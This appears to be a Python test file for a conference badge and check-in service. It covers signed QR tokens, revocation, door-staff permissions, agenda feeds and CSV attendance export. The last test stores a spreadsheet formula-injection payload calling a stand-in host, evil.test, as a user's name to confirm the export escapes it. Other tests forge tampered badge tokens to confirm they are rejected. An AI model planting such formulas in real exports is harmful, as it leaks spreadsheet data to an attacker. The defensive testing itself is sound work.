"""Badges: signed QR tokens verifiable offline, checked in once at the door, refused when forged
or revoked."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import timedelta

import httpx
import icalendar
import pytest
from cryptography.hazmat.primitives.serialization import load_pem_public_key
from sqlmodel import select
from sqlmodel.ext.asyncio.session import AsyncSession

from server.accounts.models import Role
from server.accounts.service import grant
from server.attendance.badges import signing_key, verify
from server.clock import FakeClock
from server.program.models import Session
from server.program.service import get_forum
from tests.factories import attendance_doc, load_program, signed_in

HOLDER = {"Authorization": "Bearer holder"}
DOOR = {"Authorization": "Bearer door"}
STRANGER = {"Authorization": "Bearer stranger"}


@pytest.fixture
async def seats(db: AsyncSession, clock: FakeClock, client: httpx.AsyncClient) -> int:
    """The holder has an on-site seat at the round table in Hall A; the round table's id."""
    await load_program(db, clock, attendance_doc())
    forum = await get_forum(db, "test-forum")
    await signed_in(db, clock, "holder@example.org", HOLDER)
    await signed_in(db, clock, "stranger@example.org", STRANGER)
    door = await signed_in(db, clock, "door@example.org", DOOR)
    await grant(db, door, Role.door, forum_id=forum.id)
    await db.commit()
    table = (await db.exec(select(Session).where(Session.slug == "round-table"))).one()
    registered = await client.post(
        f"/api/v1/sessions/{table.id}/registrations", json={"mode": "onsite"}, headers=HOLDER
    )
    assert registered.json()["status"] == "confirmed"
    assert table.id is not None
    return table.id


async def token(client: httpx.AsyncClient) -> str:
    badge = await client.get("/api/v1/forums/test-forum/badge", headers=HOLDER)
    assert badge.status_code == 200, badge.text
    return str(badge.json()["token"])


async def scan(client: httpx.AsyncClient, text: str, door: str = "hall-a") -> httpx.Response:
    return await client.post(
        "/api/v1/checkin", json={"forum": "test-forum", "door": door, "token": text}, headers=DOOR
    )


async def test_a_badge_verifies_offline_with_the_public_key_alone(
    client: httpx.AsyncClient, seats: int
) -> None:
    text = await token(client)
    pem = (await client.get("/api/v1/badges/key")).json()["public_key_pem"]

    claim = verify(load_pem_public_key(pem.encode()), text)  # type: ignore[arg-type]

    assert claim["forum"] == 1
    svg = await client.get("/api/v1/forums/test-forum/badge.svg", headers=HOLDER)
    png = await client.get("/api/v1/forums/test-forum/badge.png", headers=HOLDER)
    assert svg.headers["content-type"].startswith("image/svg+xml") and b"<svg" in svg.content
    assert (
        png.content.startswith(b"\x89PNG") and png.headers["cache-control"] == "private, no-store"
    )


async def test_the_first_scan_admits_and_the_second_says_when(
    client: httpx.AsyncClient, seats: int, clock: FakeClock
) -> None:
    text = await token(client)
    first = await scan(client, text)
    clock.advance(timedelta(minutes=20))

    second = await scan(client, text, door="channel")

    assert (first.json()["already"], first.json()["message"]) == (False, "welcome")
    assert [s["session"] for s in first.json()["sessions"]] == [seats]
    assert second.json()["already"] is True
    assert second.json()["message"] == "already checked in at 09:00 UTC"
    assert second.json()["checked_in_at"] == first.json()["checked_in_at"]


def tampered(text: str) -> str:
    body, signature = text.split(".")
    claim = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    claim["u"] += 1  # someone else's badge, same signature
    forged = base64.urlsafe_b64encode(json.dumps(claim).encode()).rstrip(b"=").decode()
    return f"{forged}.{signature}"


async def test_forged_badges_are_refused(client: httpx.AsyncClient, seats: int) -> None:
    genuine = await token(client)
    other_key = signing_key("another server's secret, not ours at all")
    body = genuine.split(".")[0]
    signed_elsewhere = (
        body + "." + base64.urlsafe_b64encode(other_key.sign(b"x")).rstrip(b"=").decode()
    )

    answers = [
        await scan(client, t) for t in (tampered(genuine), signed_elsewhere, "junk.junk.junk")
    ]

    assert [(a.status_code, a.json()["error"]["message"]) for a in answers] == [
        (403, "token: this is not a genuine Pavilion badge")
    ] * 3


async def test_a_revoked_badge_is_refused(
    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
) -> None:
    text = await token(client)
    organiser = await signed_in(
        db, clock, "organiser@example.org", {"Authorization": "Bearer organiser"}
    )
    await grant(db, organiser, Role.organiser, forum_id=(await get_forum(db, "test-forum")).id)
    await db.commit()
    badge_id = json.loads(base64.urlsafe_b64decode(text.split(".")[0] + "=="))["b"]

    revoked = await client.post(
        f"/api/v1/badges/{badge_id}/revoke", headers={"Authorization": "Bearer organiser"}
    )
    refused = await scan(client, text)

    assert revoked.status_code == 200
    assert refused.status_code == 409 and "revoked" in refused.json()["error"]["message"]


ORGANISER = {"Authorization": "Bearer organiser"}


async def organiser_id(db: AsyncSession, clock: FakeClock) -> int:
    organiser = await signed_in(db, clock, "organiser@example.org", ORGANISER)
    await grant(db, organiser, Role.organiser, forum_id=(await get_forum(db, "test-forum")).id)
    await db.commit()
    assert organiser.id is not None
    return organiser.id


def badge_of(text: str) -> int:
    return int(json.loads(base64.urlsafe_b64decode(text.split(".")[0] + "=="))["b"])


def refusal(answer: httpx.Response) -> tuple[int, str, str]:
    error = answer.json()["error"]
    return answer.status_code, error["code"], error["reason"]


async def test_the_door_turns_away_a_badge_whose_holder_cancelled_their_seat(
    client: httpx.AsyncClient, seats: int
) -> None:
    text = await token(client)
    cancelled = await client.delete(f"/api/v1/sessions/{seats}/registrations/me", headers=HOLDER)

    at_the_door = await scan(client, text)
    asked_again = await client.get("/api/v1/forums/test-forum/badge", headers=HOLDER)

    assert cancelled.status_code == 200, cancelled.text
    assert refusal(at_the_door) == (409, "conflict", "no_seat")
    assert refusal(asked_again) == (404, "not_found", "no_seat")


async def test_a_badge_is_valid_again_once_its_holder_has_a_seat_again(
    client: httpx.AsyncClient, seats: int
) -> None:
    text = await token(client)
    await client.delete(f"/api/v1/sessions/{seats}/registrations/me", headers=HOLDER)
    refused = await scan(client, text)
    await client.post(
        f"/api/v1/sessions/{seats}/registrations", json={"mode": "onsite"}, headers=HOLDER
    )

    admitted = await scan(client, text)

    assert refusal(refused) == (409, "conflict", "no_seat")
    assert (admitted.status_code, admitted.json()["message"]) == (200, "welcome")


async def test_an_online_place_does_not_keep_a_badge_valid(
    client: httpx.AsyncClient, seats: int
) -> None:
    text = await token(client)
    await client.delete(f"/api/v1/sessions/{seats}/registrations/me", headers=HOLDER)
    online = await client.post(
        f"/api/v1/sessions/{seats}/registrations", json={"mode": "online"}, headers=HOLDER
    )

    refused = await scan(client, text)

    assert online.json()["mode"] == "online"
    assert refusal(refused) == (409, "conflict", "no_seat")


async def test_a_revoked_badge_stays_revoked_until_an_organiser_restores_it(
    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
) -> None:
    organiser = await organiser_id(db, clock)
    old = await token(client)
    revoked = await client.post(f"/api/v1/badges/{badge_of(old)}/revoke", headers=ORGANISER)
    clock.advance(timedelta(minutes=5))

    refused = await client.get("/api/v1/forums/test-forum/badge", headers=HOLDER)
    image = await client.get("/api/v1/forums/test-forum/badge.png", headers=HOLDER)
    clock.advance(timedelta(minutes=5))
    restored = await client.post(f"/api/v1/badges/{badge_of(old)}/restore", headers=ORGANISER)
    new = await token(client)

    assert revoked.json() == {
        "badge": badge_of(old),
        "revoked_at": "2027-03-20T09:00:00Z",
        "revoked_by": organiser,
        "restored_at": None,
        "restored_by": None,
    }
    assert refusal(refused) == (403, "forbidden", "revoked")
    assert refused.json()["error"]["params"] == {"revoked_at": "2027-03-20T09:00:00Z"}
    assert refusal(image) == (403, "forbidden", "revoked")
    assert restored.json() == {
        **revoked.json(),
        "restored_at": "2027-03-20T09:10:00Z",
        "restored_by": organiser,
    }
    assert badge_of(new) != badge_of(old)
    assert refusal(await scan(client, old)) == (409, "conflict", "revoked")
    assert (await scan(client, new)).json()["message"] == "welcome"


async def test_revoking_twice_keeps_the_first_record(
    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
) -> None:
    await organiser_id(db, clock)
    badge = badge_of(await token(client))
    first = await client.post(f"/api/v1/badges/{badge}/revoke", headers=ORGANISER)
    clock.advance(timedelta(hours=1))

    second = await client.post(f"/api/v1/badges/{badge}/revoke", headers=ORGANISER)

    assert second.json() == first.json()


async def test_only_organisers_restore_and_only_a_revoked_badge(
    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
) -> None:
    await organiser_id(db, clock)
    badge = badge_of(await token(client))

    not_revoked = await client.post(f"/api/v1/badges/{badge}/restore", headers=ORGANISER)
    await client.post(f"/api/v1/badges/{badge}/revoke", headers=ORGANISER)
    by_holder = await client.post(f"/api/v1/badges/{badge}/restore", headers=HOLDER)
    by_door = await client.post(f"/api/v1/badges/{badge}/restore", headers=DOOR)
    still = await client.get("/api/v1/forums/test-forum/badge", headers=HOLDER)

    assert refusal(not_revoked) == (409, "conflict", "not_revoked")
    assert (by_holder.status_code, by_door.status_code) == (403, 403)
    assert refusal(still) == (403, "forbidden", "revoked")


async def test_only_door_staff_scan_and_only_known_doors(
    client: httpx.AsyncClient, seats: int
) -> None:
    text = await token(client)

    stranger = await client.post(
        "/api/v1/checkin",
        json={"forum": "test-forum", "door": "hall-a", "token": text},
        headers=STRANGER,
    )
    nowhere = await scan(client, text, door="back-door")

    assert stranger.status_code == 403
    assert (nowhere.status_code, nowhere.json()["error"]["field"]) == (422, "door")


async def test_no_badge_without_an_on_site_seat(client: httpx.AsyncClient, seats: int) -> None:
    badge = await client.get("/api/v1/forums/test-forum/badge", headers=STRANGER)

    assert (badge.status_code, badge.json()["error"]["message"]) == (
        404,
        "badge: badges are for people with an on-site seat",
    )


async def test_the_private_agenda_feed_lists_my_sessions_until_turned_off(
    client: httpx.AsyncClient, seats: int
) -> None:
    made = await client.post("/api/v1/me/agenda/feed", headers=HOLDER)
    path = made.json()["url"].removeprefix("http://pavilion.test")

    feed = await client.get(path)
    events = icalendar.Calendar.from_ical(feed.content).walk("VEVENT")
    again = await client.post("/api/v1/me/agenda/feed", headers=HOLDER)
    old = await client.get(path)
    await client.delete("/api/v1/me/agenda/feed", headers=HOLDER)
    off = await client.get(again.json()["url"].removeprefix("http://pavilion.test"))

    assert [str(e["SUMMARY"]) for e in events] == ["Session round-table"]
    assert (old.status_code, off.status_code) == (404, 404)


async def test_organisers_see_who_came_and_export_it(
    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
) -> None:
    header = {"Authorization": "Bearer organiser"}
    organiser = await signed_in(db, clock, "organiser@example.org", header)
    await grant(db, organiser, Role.organiser, forum_id=(await get_forum(db, "test-forum")).id)
    await db.commit()
    await scan(client, await token(client))

    listed = await client.get(f"/api/v1/sessions/{seats}/registrations", headers=header)
    exported = await client.get(f"/api/v1/sessions/{seats}/registrations.csv", headers=header)
    refused = await client.get(f"/api/v1/sessions/{seats}/registrations.csv", headers=DOOR)

    assert [(r["user"]["email"], r["checked_in_at"]) for r in listed.json()["registrations"]] == [
        ("holder@example.org", "2027-03-20T09:00:00Z")
    ]
    assert exported.text.splitlines() == [
        "name,email,organisation,country,mode,status,checked_in_at",
        "Holder,holder@example.org,,,onsite,confirmed,2027-03-20T09:00:00Z",
    ]
    assert refused.status_code == 403


async def test_the_export_writes_a_name_that_looks_like_a_formula_as_text(
    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
) -> None:
    header = {"Authorization": "Bearer organiser"}
    organiser = await signed_in(db, clock, "organiser@example.org", header)
    await grant(db, organiser, Role.organiser, forum_id=(await get_forum(db, "test-forum")).id)
    await db.commit()
    formula = '=HYPERLINK("http://evil.test/?"&A1,"open")'
    renamed = await client.patch("/api/v1/me", json={"name": formula}, headers=HOLDER)
    assert renamed.status_code == 200, renamed.text

    exported = await client.get(f"/api/v1/sessions/{seats}/registrations.csv", headers=header)

    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[1][:2] == ["'" + formula, "holder@example.org"]
